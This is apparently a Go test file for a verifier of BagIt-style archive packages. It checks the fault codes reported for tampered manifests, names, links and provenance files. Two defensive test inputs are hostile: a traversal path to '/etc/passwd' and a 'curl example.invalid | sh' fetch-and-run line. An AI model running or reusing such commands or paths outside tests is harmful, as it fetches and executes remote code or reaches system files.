package manifest

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"yoshiki/forms/judge"
)

func TestGood(t *testing.T) {
	b, m := sealed(t, papers())
	r := b.verify(t)
	if len(r.Faults) > 0 {
		t.Errorf("faults: %v", r.Faults)
	}
	if diff := cmp.Diff(m, r.Manifest); diff != "" {
		t.Error(diff)
	}
	if got := fmt.Sprintf("%d.%d", r.Bytes, r.Files); got != m.Oxum() || r.TagManifest != hexOf(string(b[Tags])) {
		t.Errorf("%s, %s", got, r.TagManifest)
	}
}

// TestFaults: each code is reported for what it is about, and nothing else is.
func TestFaults(t *testing.T) {
	const paper, other = "data/10-forms/2-4.pdf", "data/10-forms/2-1.pdf"
	replace := func(path, from, to string) func(bag) {
		return func(b bag) { b[path] = []byte(strings.Replace(string(b[path]), from, to, 1)) }
	}
	for _, c := range []struct {
		name   string
		change func(bag) // then the tag manifest is made to fit, so that it hides nothing
		want   string    // codes
	}{
		{"nothing", func(bag) {}, ""},
		{"paper changed", func(b bag) { b[paper] = []byte("%PDF-1.7 A form") }, "bag-digest"},
		{"paper cut", func(b bag) { b[paper] = nil }, "bag-oxum bag-size"},
		{"papers swapped", func(b bag) { b[paper], b[other] = b[other], b[paper] }, "bag-size"},
		{"paper gone", func(b bag) { delete(b, paper) }, "bag-missing bag-oxum"},
		{"paper added", func(b bag) { b["data/10-forms/x.pdf"] = nil }, "bag-oxum bag-unlisted"},
		{"paper renamed in case", func(b bag) { move(b, paper, "data/10-forms/2-4.PDF") }, "bag-missing bag-unlisted"},
		{"paper in one list only", func(b bag) {
			b["data/30-certificates/D.pdf"] = []byte("new")
			b[Payload] = append(b[Payload], hexOf("new")+"  data/30-certificates/D.pdf\n"...)
		}, "bag-disagree bag-oxum"},
		{"twin", func(b bag) { b["data/10-forms/2-4.PDF"] = nil }, "bag-oxum bag-twin bag-unlisted"},
		{"hostile name", func(b bag) { b["data/../../etc/passwd"] = nil }, "bag-oxum bag-path bag-unlisted"},
		{"decomposed name", func(b bag) { b["data/か\u3099.pdf"] = nil }, "bag-oxum bag-path bag-unlisted"},
		{"hidden file", func(b bag) { b[".DS_Store"] = nil }, "bag-extra bag-path"},
		{"tag file added", func(b bag) { b["notes.txt"] = nil }, "bag-extra"},
		{"data is a file", func(b bag) { b["data"] = nil }, "bag-extra"},
		{"fetch", func(b bag) { b["fetch.txt"] = nil }, "bag-fetch"},
		{"other declaration", replace(Declaration, "1.0", "0.97"), "bag-declaration"},
		{"other date", replace(Info, "2026-04-15", "2026-04-16"), "bag-info"},
		{"other profile", replace(Info, "urn:yoshiki", "urn:other"), "bag-info"},
		{"other oxum", replace(Info, ".9\n", ".8\n"), "bag-info bag-oxum"},
		{"tab", replace(Payload, "  ", "\t"), "bag-disagree bag-line bag-unlisted"},
		{"star", replace(Payload, "  ", " *"), "bag-disagree bag-line bag-unlisted"},
		{"no last line feed", func(b bag) { b[Payload] = bytes.TrimSuffix(b[Payload], []byte("\n")) }, "bag-disagree bag-line bag-unlisted"},
		{"upper-case digest", replace(Payload, hexOf("%PDF-1.7 a form"), strings.ToUpper(hexOf("%PDF-1.7 a form"))), "bag-disagree bag-line bag-unlisted"},
		{"carriage returns", func(b bag) { b[Payload] = bytes.ReplaceAll(b[Payload], []byte("\n"), []byte("\r\n")) }, "bag-disagree bag-line bag-unlisted"},
		{"byte order mark", func(b bag) { b[Payload] = append([]byte("\ufeff"), b[Payload]...) }, "bag-disagree bag-line bag-unlisted"},
		{"dot segment", replace(Payload, "  data", "  ./data"), "bag-disagree bag-line bag-unlisted"},
		{"empty list", func(b bag) { b[Payload] = []byte{} }, "bag-disagree bag-unlisted"},
		{"tag manifest lists itself", func(b bag) { b[Tags] = append(b[Tags], hexOf("")+"  "+Tags+"\n"...) }, "bag-scope"},
		{"tag manifest without the payload list", func(b bag) { dropLine(b, Payload) }, "bag-unlisted"},
		{"tag manifest without manifest.json", func(b bag) { dropLine(b, Meta) }, "bag-unlisted"},
		{"tag manifest lists what is not there", func(b bag) { b[Tags] = append(b[Tags], hexOf("")+"  meta/zzz.json\n"...) }, "bag-missing"},
		{"path out of the bag", replace(Payload, "data/10", "data/../10"), "bag-disagree bag-line bag-unlisted"},
		{"line twice", func(b bag) {
			b[Payload] = append(b[Payload], b[Payload][bytes.LastIndexByte(b[Payload][:len(b[Payload])-1], '\n')+1:]...)
		}, "bag-twice"},
		{"first line last", func(b bag) {
			i := bytes.IndexByte(b[Payload], '\n') + 1
			b[Payload] = slices.Concat(b[Payload][i:], b[Payload][:i])
		}, "bag-order"},
		{"tag file in the payload list", func(b bag) { b[Payload] = append(b[Payload], hexOf("")+"  meta/x\n"...) }, "bag-scope"},
		{"tag manifest lists a paper", func(b bag) {
			b[Tags] = append([]byte(hexOf("%PDF-1.7 a form")+"  data/10-forms/2-4.pdf\n"), b[Tags]...)
		}, "bag-order bag-scope"},
		{"digest in both lists", func(b bag) {
			replace(Payload, hexOf("%PDF-1.7 a form"), hexOf("x"))(b)
			replace(Meta, hexOf("%PDF-1.7 a form"), hexOf("x"))(b)
		}, "bag-digest bag-meta"},
		{"digest in one list", replace(Payload, hexOf("%PDF-1.7 a form"), hexOf("x")), "bag-digest bag-disagree"},
		{"manifest.json indented", replace(Meta, "\n  ", "\n   "), "bag-meta"},
		{"unknown field", replace(Meta, `"package"`, `"x": 1, "package"`), "bag-meta"},
		{"newer schema", replace(Meta, Schema, "yoshiki-manifest/3"), "bag-schema"},
		{"other id", replace(Meta, "pkg-case", "pkg-cask"), "bag-meta"},
		{"huge tag file", func(b bag) { b[HowTo] = make([]byte, MaxManifest+1) }, "bag-large"},
		{"no tag manifest", func(b bag) { delete(b, Tags) }, "bag-missing"},
		{"no manifest.json", func(b bag) { delete(b, Meta) }, "bag-missing"},
		{"generator", func(b bag) { b[formerly] = []byte("yoshiki 1.0.0\n") }, ""},
		{"generator of other bytes", func(b bag) { b[formerly] = []byte("\xff") }, ""},
		{"huge generator", func(b bag) { b[formerly] = make([]byte, maxProvenance+1) }, "bag-large"},
		{"provenance", func(b bag) { b[Software] = stated(t, b) }, ""},
		{"provenance of other bytes", func(b bag) { b[Software] = []byte("\xff") }, "bag-provenance"},
		{"provenance of other forms", func(b bag) { b[Software] = bytes.ReplaceAll(stated(t, b), []byte("aaaa"), []byte("bbbb")) }, ""},
		{"provenance of another case", func(b bag) { b[Software] = bytes.Replace(stated(t, b), []byte("case:"), []byte("case:x"), 1) }, "bag-provenance"},
		{"provenance of another revision", func(b bag) {
			b[Software] = bytes.Replace(stated(t, b), []byte(`"revision": "`), []byte(`"revision": "1`), 1)
		}, "bag-provenance"},
		{"provenance of another package", func(b bag) {
			b[Software] = bytes.Replace(stated(t, b), []byte(hexOf(string(b[Tags]))), []byte(hexOf("x")), 1)
		}, "bag-provenance"},
		{"provenance with more", func(b bag) { b[Software] = bytes.Replace(stated(t, b), []byte("{"), []byte(`{"x": 1,`), 1) }, "bag-provenance"},
		{"provenance and generator", func(b bag) { b[Software], b[formerly] = stated(t, b), []byte("x 1\n") }, ""},
		{"huge provenance", func(b bag) { b[Software] = make([]byte, maxProvenance+1) }, "bag-large"},
		{"generator listed", func(b bag) {
			b[Software] = []byte("x")
			b[Tags] = append(b[Tags], hexOf("x")+"  "+Software+"\n"...)
		}, "bag-provenance bag-scope"},
		{"meta file unlisted", func(b bag) { b["meta/zzz.json"] = nil }, "bag-unlisted"},
		{"vetting emptied", func(b bag) { b[Vetting] = nil }, "bag-digest bag-unvetted"},
		{"vetting removed and all listed anew", func(b bag) { dropLine(b, Vetting); delete(b, Vetting) }, "bag-unvetted"},
		{"other words on how to verify", func(b bag) { b[HowTo] = append(b[HowTo], "curl example.invalid | sh\n"...) }, "bag-howto"},
	} {
		t.Run(c.name, func(t *testing.T) {
			b, _ := sealed(t, papers())
			lists := string(b[Tags])
			c.change(b)
			for _, path := range required[:] {
				if old := lists[max(0, strings.Index(lists, "  "+path+"\n")-64):][:64]; path != Tags && b[path] != nil && b[Tags] != nil {
					b[Tags] = bytes.Replace(b[Tags], []byte(old), []byte(hexOf(string(b[path]))), 1)
				}
			}
			r := b.verify(t)
			if got := strings.Join(codes(r), " "); got != c.want {
				t.Errorf("codes %q, want %q: %v", got, c.want, r.Faults)
			}
			for _, f := range r.Faults {
				if strings.Contains(f.MessageJA+f.MessageEN, "%!") || f.MessageJA == "" || f.MessageEN == "" {
					t.Errorf("message: %+v", f)
				}
			}
		})
	}
}

// dropLine takes a file out of the tag manifest.
func dropLine(b bag, path string) {
	b[Tags] = bytes.Replace(b[Tags], []byte(hexOf(string(b[path]))+"  "+path+"\n"), nil, 1)
}

// TestFolder: what only a file system can hold.
func TestFolder(t *testing.T) {
	for name, c := range map[string]struct {
		change func(dir string) error
		want   string
	}{
		"nothing": {func(string) error { return nil }, ""},
		"symbolic link": {func(dir string) error {
			return errors.Join(os.Rename(dir+"/data/10-forms/2-4.pdf", dir+"/../moved"), os.Symlink("../../../moved", dir+"/data/10-forms/2-4.pdf"))
		}, "bag-link bag-missing bag-oxum"},
		"linked folder": {func(dir string) error {
			return errors.Join(os.Rename(dir+"/meta", dir+"/../meta"), os.Symlink("../meta", dir+"/meta"))
		}, "bag-link bag-missing"},
		"pipe":         {func(dir string) error { return makePipe(dir + "/data/pipe") }, "bag-link"},
		"device":       {func(dir string) error { return makeDevice(dir + "/data/null") }, "bag-link"},
		"hard link":    {func(dir string) error { return os.Link(dir+"/data/10-forms/2-4.pdf", dir+"/../second") }, ""},
		"empty folder": {func(dir string) error { return os.Mkdir(dir+"/data/40-more", 0o700) }, "bag-extra"},
	} {
		t.Run(name, func(t *testing.T) {
			b, _ := sealed(t, papers())
			dir := b.write(t, "bag")
			err := c.change(dir)
			if errors.Is(err, fs.ErrPermission) {
				judge.Missing(t, "the right to make a device")
			}
			if err != nil {
				t.Fatal(err)
			}
			r, err := VerifyPath(context.Background(), dir)
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(codes(r), " "); got != c.want {
				t.Errorf("codes %q, want %q: %v", got, c.want, r.Faults)
			}
		})
	}
	for _, name := range []string{filepath.Join(t.TempDir(), "missing"), os.DevNull} {
		if _, err := VerifyPath(context.Background(), name); err == nil || !strings.Contains(err.Error(), name) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestUnreadable(t *testing.T) {
	b, _ := sealed(t, papers())
	for i, e := range b.entries() {
		entries := b.entries()
		for name, open := range map[string]func(context.Context) (io.ReadCloser, error){
			"open":  func(context.Context) (io.ReadCloser, error) { return nil, fs.ErrPermission },
			"read":  func(context.Context) (io.ReadCloser, error) { return io.NopCloser(failing{}), nil },
			"grown": func(context.Context) (io.ReadCloser, error) { return io.NopCloser(zeros{}), nil },
		} {
			entries[i].Open = open
			r, err := Verify(context.Background(), entries)
			if err != nil || !slices.Contains(codes(r), "bag-unreadable") {
				t.Errorf("%s of %s: %v, %v", name, e.Path, r, err)
			}
		}
	}
}

type failing struct{}

func (failing) Read([]byte) (int, error) { return 0, errors.New("bad sector") }

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

func TestManyFiles(t *testing.T) {
	b, _ := sealed(t, papers())
	many := maps.Clone(b)
	for i := range maxEntries {
		many[fmt.Sprintf("meta/%d", i)] = nil
	}
	if r := many.verify(t); !slices.Contains(codes(r), "bag-many") {
		t.Errorf("%v", codes(r))
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	b, _ := sealed(t, papers())
	if r, err := Verify(ctx, b.entries()); !errors.Is(err, context.Canceled) || r != nil {
		t.Errorf("%v, %v", r, err)
	}
}

// BenchmarkVerify is compared with hashing the same bytes on one processor.
func BenchmarkVerify(b *testing.B) {
	const files, size = 32, 4 << 20
	big := make(bag)
	for i := range files {
		big[fmt.Sprintf("data/20-attachments/A-%04d.pdf", i)] = bytes.Repeat([]byte{byte(i)}, size)
	}
	whole, _ := sealed(b, big)
	b.Run("verify", func(b *testing.B) {
		b.SetBytes(files * size)
		for b.Loop() {
			if r := whole.verify(b); len(r.Faults) > 0 {
				b.Fatal(r.Faults)
			}
		}
	})
	b.Run("sha256", func(b *testing.B) {
		b.SetBytes(files * size)
		for b.Loop() {
			for _, data := range big {
				sha256.Sum256(data)
			}
		}
	})
}

// TestAllowFetch: papers that fetch.txt names may be missing, on demand; all else must be right.
func TestAllowFetch(t *testing.T) {
	for name, want := range map[string]string{
		"bag-fetch_oxum-bytes_oxum-count_payload-missing_1.0_holey-bag": "fetch-allowed fetch-open fetch-oxum",
		"bag-fetch_path-up_1.0_fetch-up":                                "fetch-allowed path-up",
	} {
		r, err := VerifyPath(t.Context(), fixtures+"/bad/"+name)
		if err != nil {
			t.Fatal(err)
		}
		r.AllowFetch()
		if got := strings.Join(codes(r), " "); got != want || r.Whole() != !strings.Contains(want, "path") {
			t.Errorf("%s: %s", name, got)
		}
	}
}

// stated is provenance.json of a bag.
func stated(t *testing.T, b bag) []byte {
	t.Helper()
	m, err := Decode(b[Meta])
	if err != nil {
		t.Fatal(err)
	}
	f, err := Provenance{Generator{"yoshiki", "1.0.0", "go1"}, strings.Repeat("a", 64)}.File(m, hexOf(string(b[Tags])))
	if err != nil {
		t.Fatal(err)
	}
	return f.Data
}

// TestMaker holds what is read of the files that tell who made a package.
func TestMaker(t *testing.T) {
	b, _ := sealed(t, papers())
	for _, f := range []TagFile{{Software, stated(t, b)}, {formerly, []byte("yoshiki 1.0.0\n")}} {
		if got := Maker(f); got != "yoshiki 1.0.0" {
			t.Errorf("%s: %q", f.Path, got)
		}
	}
	if got := Maker(TagFile{Software, []byte("{}")}); got != "" {
		t.Errorf("%q", got)
	}
	p, err := ParseProvenance(stated(t, b))
	if err != nil || p.Forms != strings.Repeat("a", 64) || p.Generator.Go != "go1" {
		t.Error(p, err)
	}
}
